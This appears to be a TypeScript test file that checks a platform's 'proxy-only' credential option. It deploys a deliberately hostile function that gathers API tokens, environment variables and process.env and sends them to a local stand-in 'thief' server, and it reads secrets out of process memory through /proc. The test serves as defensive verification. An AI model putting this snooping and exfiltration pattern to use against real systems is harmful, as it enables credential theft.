import { randomBytes } from "node:crypto";
import { openSync, readdirSync, readFileSync, readSync } from "node:fs";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { gzipSync } from "node:zlib";
import { sql } from "kysely";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { actions, triggerAction } from "#actions";
import { connections, createConnection } from "#connections";
import { environments, setEnvironmentVariable } from "#environments";
import type { EnvironmentContext } from "#foundation";
import { deployFunctions, functions } from "#functions";
import { newAction, newBundle, newUpload } from "#functions/testing";
import { createIntegration, integrations } from "#integrations";
import { flushLogs } from "#logs";
import { proxy } from "#proxy";
import { type TestApp, testApp } from "#testing";

// A function that tries to see a secret: its memory, what it was sent, and what it left behind have none.

const token = `canary-${randomBytes(18).toString("base64url")}`;
const variable = `variable-${randomBytes(18).toString("base64url")}`;

let app: TestApp;
let ctx: EnvironmentContext;
let provider: Server;
let thief: Server;
/** Requests that came with the credentials. */
let authorized = 0;
let stolen: string[] = [];
/** All that the server sent to function processes. */
let inputs: string[] = [];
let whileRunning: () => void = () => {};

async function listen(answer: (request: IncomingMessage, response: ServerResponse) => void) {
  const server = createServer(answer);
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  // It listens on a port, not on a socket file.
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

/** Repeats what it was sent, in many forms. */
function repeat(request: IncomingMessage, response: ServerResponse): void {
  if (request.headers.authorization?.includes(token) === true) authorized += 1;
  if (request.url === "/now") whileRunning();
  const sent = request.headers.authorization?.replace("Bearer ", "") ?? "";
  const body = JSON.stringify({
    headers: request.headers,
    forms: [sent, encodeURIComponent(sent), Buffer.from(sent).toString("base64")],
    more: [Buffer.from(`user:${sent}`).toString("base64"), Buffer.from(sent).toString("hex")],
  });
  response.setHeader("x-repeated", sent);
  response.statusCode = request.url === "/broken" ? 500 : 200;
  if (request.url === "/compressed") {
    response.setHeader("content-encoding", "gzip");
    response.end(gzipSync(body));
  } else response.setHeader("content-type", "application/json").end(body);
}

beforeAll(async () => {
  const opened = await listen(repeat);
  const other = await listen((request, response) => {
    stolen.push(JSON.stringify(request.headers));
    response.end("{}");
  });
  provider = opened.server;
  thief = other.server;
  app = await testApp({
    slices: [actions, connections, environments, functions, integrations, proxy],
    runsFunctions: true,
  });
  const { sandbox } = app.ctx;
  ctx = {
    ...app.ctx,
    sandbox: {
      ...sandbox,
      run: async (run) => {
        inputs.push(JSON.stringify(run.facts), Buffer.from(run.input ?? []).toString());
        const onCall: typeof run.onCall = async (call) => {
          const answer = await run.onCall(call).catch((error: unknown) => {
            inputs.push(JSON.stringify(error), String(error));
            throw error;
          });
          inputs.push(
            JSON.stringify(answer.value),
            Buffer.from(answer.body ?? []).toString("latin1"),
          );
          return answer;
        };
        return await sandbox.run({ ...run, onCall });
      },
    },
  };
  const integration = await createIntegration(ctx, {
    ...{ provider: "private-api-bearer", uniqueKey: "crm", displayName: undefined },
    ...{ forwardWebhooks: true, credentials: undefined, custom: {}, settings: {} },
    integrationConfig: { base_url: opened.url },
  });
  await createConnection(ctx, {
    ...{ integration, connectionId: "c1", metadata: undefined, connectionConfig: undefined },
    ...{ tags: {}, webhookUrlOverride: undefined },
    credentials: { type: "API_KEY", apiKey: token },
  });
  await setEnvironmentVariable(ctx, { name: "SECRET", value: variable });
  const thiefUrl = other.url;
  const snooping = newBundle("action", snoop(thiefUrl));
  const giving = newBundle("action", "return [await svc.getToken(), await svc.getConnection()];");
  await deployFunctions(
    ctx,
    newUpload({
      flowConfigs: [
        newAction("tokenless", { credentials: "proxy-only", egress: ["*"], fileBody: snooping }),
        newAction("usual", { fileBody: snooping }),
        newAction("giving", { fileBody: giving }),
      ],
    }),
  );
});
afterAll(async () => {
  await app[Symbol.asyncDispose]();
  for (const server of [provider, thief]) {
    server.closeAllConnections();
    server.close();
  }
});
beforeEach(() => {
  authorized = 0;
  stolen = [];
  inputs = [];
  whileRunning = () => {};
});

/** Asks for secrets in every way, keeps what it gets, and says all of it in logs, its output and an error. */
function snoop(thiefUrl: string): string {
  const ways = [
    "svc.getToken()",
    "svc.getConnection()",
    'svc.getConnection("crm", "c1", { forceRefresh: true })',
    'svc.getConnection("crm", "c1", { refreshToken: true })',
    'svc.getIntegration({ include: ["credentials", "webhook"] })',
    "svc.getEnvironmentVariables()",
    "svc.getMetadata()",
    'svc.get({ endpoint: "/plain" })',
    'svc.get({ endpoint: "/compressed", decompress: false })',
    'svc.get({ endpoint: "/compressed", decompress: false, responseType: "arraybuffer", headers: { "accept-encoding": "gzip" } })',
    'svc.get({ endpoint: "/plain", headers: { range: "bytes=0-20" } })',
    'svc.get({ endpoint: "/broken" })',
    'svc.proxy({ method: "TRACE", endpoint: "/plain" })',
    `svc.get({ endpoint: "/x", baseUrlOverride: "${thiefUrl}" })`,
    `svc.post({ endpoint: "/x", baseUrlOverride: "${thiefUrl}/a", data: {}, retries: 1 })`,
    'svc.triggerAction("crm", "c1", "giving", {})',
    "Promise.resolve(JSON.stringify([process.env, process.argv, process.execArgv]))",
  ];
  return `
    globalThis.kept = [];
    const show = (value) => { try { return JSON.stringify(value, (_k, v) => v instanceof Error ? [v.message, v.stack, v.response, v.payload, v.cause] : v); } catch (e) { return String(e); } };
    for (const ask of [${ways.map((way) => `() => ${way}`).join(",\n")}]) {
      try { globalThis.kept.push(await ask()); } catch (error) { globalThis.kept.push(error); }
    }
    const all = show(globalThis.kept);
    if (!input.isQuiet) {
      await svc.log(all, { level: "error" });
      console.error(all);
    }
    await svc.get({ endpoint: "/now" }).catch(() => {});
    if (input.fails) throw new Error(all);
    return all;`;
}

/** The processes of functions that this one has started, also within the walls around them. */
function listFunctionProcesses(): string[] {
  return readdirSync("/proc").filter((pid) => /^\d+$/.test(pid) && isOwnFunction(pid));
}

function isOwnFunction(pid: string): boolean {
  try {
    if (!readFileSync(`/proc/${pid}/cmdline`, "latin1").includes("--zero-fill-buffers"))
      return false;
    let parent = pid;
    while (Number(parent) > 1 && parent !== String(process.pid)) {
      const stat = readFileSync(`/proc/${parent}/stat`, "latin1");
      parent = stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1] ?? "";
    }
    return parent === String(process.pid);
  } catch {
    // It has ended meanwhile.
    return false;
  }
}

const CHUNK = 1024 * 1024;

/** How often the text is in what the process can read: as bytes of one and of two for each character. */
function countInMemory(pid: string, text: string): number {
  const wanted = [Buffer.from(text, "latin1"), Buffer.from(text, "utf16le")];
  const memory = openSync(`/proc/${pid}/mem`, "r");
  let found = 0;
  for (const line of readFileSync(`/proc/${pid}/maps`, "latin1").split("\n")) {
    const [, from = "", to = "", rights = ""] = /^(\w+)-(\w+) (\S+)/.exec(line) ?? [];
    if (!rights.startsWith("rw")) continue;
    const end = Number.parseInt(to, 16);
    for (let at = Number.parseInt(from, 16); at < end; at += CHUNK) {
      const bytes = Buffer.alloc(Math.min(CHUNK + 256, end - at));
      try {
        const read = readSync(memory, bytes, 0, bytes.length, at);
        for (const each of wanted) found += bytes.subarray(0, read).includes(each) ? 1 : 0;
      } catch {
        // A page that is not there.
      }
    }
  }
  return found;
}

function countSecrets(counted: Record<string, number>): void {
  for (const pid of listFunctionProcesses()) {
    for (const secret of [token, variable]) {
      counted[secret] = (counted[secret] ?? 0) + countInMemory(pid, secret);
    }
  }
}

async function run(actionName: string, input: object = {}): Promise<string> {
  return await triggerAction(ctx, {
    ...{ integrationKey: "crm", connectionId: "c1", actionName, input },
  }).then(
    (output) => Buffer.from(output).toString(),
    (error: unknown) => JSON.stringify(error, Object.getOwnPropertyNames(error)),
  );
}

function formsOf(secret: string): string[] {
  const bytes = Buffer.from(secret);
  return [
    ...[secret, encodeURIComponent(secret), bytes.toString("hex")],
    ...["base64", "base64url"].map((form) => bytes.toString(form as "base64").slice(0, -4)),
  ];
}

async function readLogs(): Promise<string> {
  await flushLogs(ctx);
  const { rows } = await sql`
    select to_jsonb(m) as line from operation_messages m where environment_id = ${ctx.environment.id}`.execute(
    ctx.db,
  );
  return JSON.stringify(rows);
}

test("a tokenless function calls its provider with the credentials and finds no secret anywhere", {
  timeout: 120_000,
}, async (context) => {
  if (process.platform !== "linux") return context.skip("its memory is read by /proc");
  const counted: Record<string, number> = {};
  whileRunning = () => countSecrets(counted);

  const output = await run("tokenless");
  const failed = await run("tokenless", { fails: true });

  expect(authorized).toBeGreaterThan(8);
  expect(stolen).toEqual([]);
  expect(counted).toEqual({ [token]: 0, [variable]: 0 });
  const left = [...inputs, output, failed, await readLogs()].join("\n");
  for (const form of [...formsOf(token), ...formsOf(variable)]) expect(left).not.toContain(form);
  expect(left).toContain("[hidden]");
  expect(output).toContain("credentials_withheld");
});

test("the same function without the option has the secrets in its memory, where the search finds them", {
  timeout: 120_000,
}, async (context) => {
  if (process.platform !== "linux") return context.skip("its memory is read by /proc");
  const counted: Record<string, number> = {};
  whileRunning = () => countSecrets(counted);

  const output = await run("usual", { isQuiet: true });

  expect(counted[token]).toBeGreaterThan(0);
  expect(counted[variable]).toBeGreaterThan(0);
  expect(output).toContain(token);
  expect(stolen.join()).toContain(token);
});
